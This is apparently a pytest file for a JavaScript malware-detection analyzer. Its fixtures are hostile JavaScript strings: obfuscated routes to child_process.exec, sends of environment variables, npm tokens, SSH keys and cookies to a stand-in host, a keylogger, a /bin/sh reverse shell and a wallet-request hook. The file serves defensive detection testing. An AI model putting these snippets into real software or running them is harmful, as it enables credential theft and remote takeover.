"""What JavaScript does with what it reads: calls under their own names, sources that reach sinks, layers, modules."""

from __future__ import annotations

import pytest

from tests.code.javascript_evaluation import calls, facts_of, flows, package

ROADS = [
    'require("child_process").exec("id")',
    'require("node:child_process").exec("id")',
    'const {exec: run} = require("child_process"); run("id")',
    'import {exec as run} from "node:child_process"; run("id")',
    'import cp from "child_process"; cp.exec("id")',
    'import * as cp from "child_process"; cp["exec"]("id")',
    'import("child_process").then(cp => cp.exec("id"))',
    '(async () => { const {exec} = await import("child_process"); exec("id") })()',
    'module.require("child_process").exec("id")',
    'process.mainModule.require("child_process").exec("id")',
    'require.main.require("child_process").exec("id")',
    'module.constructor._load("child_process").exec("id")',
    'require("module").createRequire(__filename)("child_process").exec("id")',
    'process.getBuiltinModule("child_process").exec("id")',
    'require("child_" + "process")["ex" + "ec"]("id")',
    'Reflect.get(require("child_process"), "exec")("id")',
    'Reflect.apply(require("child_process").exec, null, ["id"])',
    'require("child_process").exec.call(null, "id")',
    'require("child_process").exec.apply(null, ["id"])',
    'require("child_process").exec.bind(null, "id")()',
    'const o = {a: {b: require("child_process")}}; o.a.b.exec("id")',
    'const [f] = [require("child_process").exec]; f("id")',
    'function g(f) { f("id") } g(require("child_process").exec)',
    'class A { constructor() { this.f = require("child_process").exec } go() { this.f("id") } } new A().go()',
    'require("util").promisify(require("child_process").exec)("id")',
    "eval(\"require('child_process').exec('id')\")",
    "(0, eval)(\"require('child_process').exec('id')\")",
    "new Function(\"require\", \"require('child_process').exec('id')\")(require)",
    '[].constructor.constructor("return process")().mainModule.require("child_process").exec("id")',
    'globalThis["ev" + "al"]("require(\'child_process\').exec(\'id\')")',
    "setTimeout(\"require('child_process').exec('id')\", 1)",
    "require(\"vm\").runInThisContext(\"require('child_process').exec('id')\")",
    "new (require(\"vm\").Script)(\"require('child_process').exec('id')\").runInThisContext()",
    "new (require(\"worker_threads\").Worker)(\"require('child_process').exec('id')\", {eval: true})",
    'import("data:text/javascript,import(%22child_process%22).then(c => c.exec(%22id%22))")',
    'Promise.resolve(require("child_process")).then(c => c.exec("id"))',
    'new Promise(r => r(require("child_process"))).then(c => c.exec("id"))',
    'process.nextTick(() => require("child_process").exec("id"))',
    '["id"].forEach(c => require("child_process").exec(c))',
    'const e = new (require("events"))(); e.on("go", c => require("child_process").exec(c)); e.emit("go", "id")',
    'class A { set c(v) { require("child_process").exec(v) } } const a = new A(); a.c = "id"',
    'try { throw require("child_process") } catch (e) { e.exec("id") }',
    (
        "(() => { var e = { 1: (e, t, n) => { n(7).exec('id') }, 7: e => { e.exports = require('child_process') } };"
        " var t = {}; function n(r) { var o = t[r]; if (void 0 !== o) return o.exports;"
        " var i = t[r] = { exports: {} }; return e[r](i, i.exports, n), i.exports } n(1) })()"
    ),
    'var r = require; r("child_process").exec("id")',
    'eval(Buffer.from("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=", "base64").toString())',
    'eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk="))',
    "eval(unescape(\"%72%65quire('child_process').exec('id')\"))",
]


@pytest.mark.parametrize("source", ROADS)
def test_a_process_is_found_by_whatever_road(source: str) -> None:
    facts = facts_of(source)
    found = [call for call in facts.calls if call.name == "child_process.exec"]
    assert [call.arguments[0].value.value for call in found] == ["id"]
    assert found[0].where.at_import


NOT_A_PROCESS = [
    'const exec = s => s; exec("id")',
    'const p = {exec: s => s}; p.exec("id")',
    '/a/.exec("id")',
    'function require(x) { return {exec() {}} } require("child_process").exec("id")',
]


@pytest.mark.parametrize("source", NOT_A_PROCESS)
def test_what_is_only_called_alike_is_none(source: str) -> None:
    assert "child_process.exec" not in calls(facts_of(source))


FLOWS = [
    (
        'const r = require("https").request({hostname: "h.invalid", path: "/p"}); r.write(JSON.stringify(process.env))',
        ("environment", "process.env", "https.request().write", "data"),
    ),
    (
        'fetch("https://h.invalid", {method: "POST", body: process.env.NPM_TOKEN})',
        ("environment", "NPM_TOKEN", "fetch", "data"),
    ),
    (
        'require("axios").post("https://h.invalid", {h: require("os").hostname()})',
        ("identity", "os.hostname", "axios.post", "data"),
    ),
    (
        (
            'const k = require("fs").readFileSync(require("path").join(require("os").homedir(), ".ssh", "id_rsa"));'
            'require("https").get("https://h.invalid/?" + k)'
        ),
        ("credential", "~/.ssh/id_rsa", "https.get", "url"),
    ),
    (
        (
            'require("https").get("https://h.invalid/p", r => { let b = ""; r.on("data", d => b += d);'
            ' r.on("end", () => eval(b)) })'
        ),
        ("remote", "https://h.invalid/p", "eval", "code"),
    ),
    (
        'fetch("https://h.invalid/p").then(r => r.text()).then(t => new Function(t)())',
        ("remote", "https://h.invalid/p", "Function", "code"),
    ),
    (
        'require("child_process").exec("whoami", (e, out) => require("dns").lookup(out.trim() + ".h.invalid"))',
        ("process", "whoami", "dns.lookup", "name"),
    ),
    (
        'require("https").get("https://h.invalid/x", r => r.pipe(require("fs").createWriteStream("/tmp/x")))',
        ("remote", "https://h.invalid/x", "fs.createWriteStream().write", "data"),
    ),
    (
        (
            'const c = new (require("net").Socket)(), s = require("child_process").spawn("/bin/sh", []);'
            'c.connect(4444, "127.0.0.1", () => { c.pipe(s.stdin); s.stdout.pipe(c) })'
        ),
        ("remote", "net.Socket", "child_process.spawn().stdin.write", "data"),
    ),
    (
        'const w = new (require("ws"))("wss://h.invalid"); w.on("message", m => require("child_process").exec(m))',
        ("remote", "wss://h.invalid", "child_process.exec", "command"),
    ),
    (
        'document.addEventListener("keydown", e => fetch("https://h.invalid/?k=" + e.key))',
        ("keys", "keydown", "fetch", "url"),
    ),
    (
        'new Image().src = "https://h.invalid/?" + document.cookie',
        ("credential", "document.cookie", "Image().src=", "url"),
    ),
    (
        (
            "class U { constructor(u) { this.u = u } send(d) { return fetch(this.u, {body: d}) } }"
            ' new U("https://h.invalid").send(JSON.stringify(Object.entries(process.env)))'
        ),
        ("environment", "process.env", "fetch", "data"),
    ),
    (
        "eval(require('zlib').inflateSync(Buffer.from('eNpLTE0BAAJJASc=', 'base64')).toString())",
        ("blob", "base64", "eval", "code"),
    ),
]


@pytest.mark.parametrize(("source", "expected"), FLOWS)
def test_sources_reach_sinks(source: str, expected: tuple[str, str, str, str]) -> None:
    assert expected in flows(facts_of(source))


NO_FLOWS = [
    'fetch("https://h.invalid/" + VERSION)',
    'const t = process.env.NODE_ENV; fetch("https://h.invalid")',
    'if (process.env.CI) fetch("https://h.invalid", {body: "x"})',
    'eval("1 + 1"); fetch("https://h.invalid").then(r => r.json())',
]


@pytest.mark.parametrize("source", NO_FLOWS)
def test_what_does_not_flow_is_no_flow(source: str) -> None:
    assert [flow for flow in flows(facts_of(source)) if flow[0] != "parameter"] == []


def test_an_address_is_put_together_from_options_and_a_command_from_its_words() -> None:
    facts = facts_of(
        'require("https").request({host: "h.invalid", port: 8443, path: "/a", method: "POST"});'
        'require("child_process").spawn("sh", ["-c", "id"], {detached: true, env: process.env})'
    )
    request, process = facts.calls
    assert request.arguments[0].value.value == "https://h.invalid:8443/a"
    assert {argument.name for argument in request.arguments} >= {"method", "path"}
    assert process.arguments[0].value.strings == ("sh", "-c", "id")
    assert ("environment", "process.env", "child_process.spawn", "environment") in flows(facts)


def test_modules_are_found_as_node_and_typescript_find_them() -> None:
    facts = package(
        {
            "index.js": 'require("./lib").go(); require("./b.mjs"); import("./c.js"); require("./data").run()',
            "lib/index.cjs": 'exports.go = () => require("../util/run")("1");',
            "util/run.ts": 'import {exec} from "child_process"; export = (c: string) => exec(c);',
            "b.mjs": 'export * from "./d"; import run, {two} from "./d"; run("2"); two("3");',
            "d.js": 'export {exec as default, exec as two} from "child_process";',
            "c.ts": 'import cp = require("child_process"); cp.exec("4");',
            "data.js": 'const {command} = require("./settings.json"); exports.run = () => '
            'require("child_process").exec(command);',
        },
        {"settings.json": b'{"command": "5"}'},
    )
    given = {call.arguments[0].value.value for call in facts.calls if call.name == "child_process.exec"}
    assert given == {"1", "2", "3", "4", "5"}
    assert all(call.where.at_import for call in facts.calls)


def test_modules_that_need_one_another_are_read_once() -> None:
    facts = package(
        {
            "a.js": 'const b = require("./b"); exports.run = c => require("child_process").exec(c); b.start()',
            "b.js": 'const a = require("./a"); exports.start = () => a.run("id")',
        }
    )
    assert [call.arguments[0].value.value for call in facts.calls] == ["id"]


def test_what_only_a_main_file_and_a_platform_runs_says_so() -> None:
    facts = facts_of(
        'if (require.main === module) require("child_process").exec("a");'
        'process.platform === "win32" && require("child_process").exec("b");'
        'if (typeof "" === "number") require("child_process").exec("c");'
    )
    assert [call.where.conditions for call in facts.calls] == [
        ("main:__name__",),
        ("platform:process.platform",),
        ("never",),
    ]


def test_layers_are_read_and_told_by_how_they_were_hidden() -> None:
    facts = facts_of('eval(Buffer.from("6576616c282731272b27322729", "hex").toString("utf8"))')
    assert [(layer.sink, layer.encodings, layer.parsed) for layer in facts.layers] == [
        ("code", ("hex",), True),
        ("code", ("hex", "concat") if len(facts.layers[1].encodings) > 1 else ("concat",), True),
    ]
    assert [call.where.layer for call in facts.calls] == [0, 1]


def test_a_decipher_with_a_known_key_is_undone() -> None:
    facts = facts_of(
        'const c = require("crypto"), k = "0123456789abcdef", d = c.createDecipheriv("aes-128-cbc", k, k);'
        'let t = d.update("0f2d5b1a7e8a8ac8b0c7d1b2b8ff1cc9", "hex", "utf8"); t += d.final("utf8"); eval(t)'
    )
    assert ("blob", "decrypt", "eval", "code") in flows(facts)


def test_functions_in_the_place_of_the_platforms_own_are_noted() -> None:
    facts = facts_of("const o = window.ethereum.request; ethereum.request = async a => o(a); window.fetch = () => 1")
    assert [call.name for call in facts.calls if "hook" in call.kinds] == ["ethereum.request=", "fetch="]
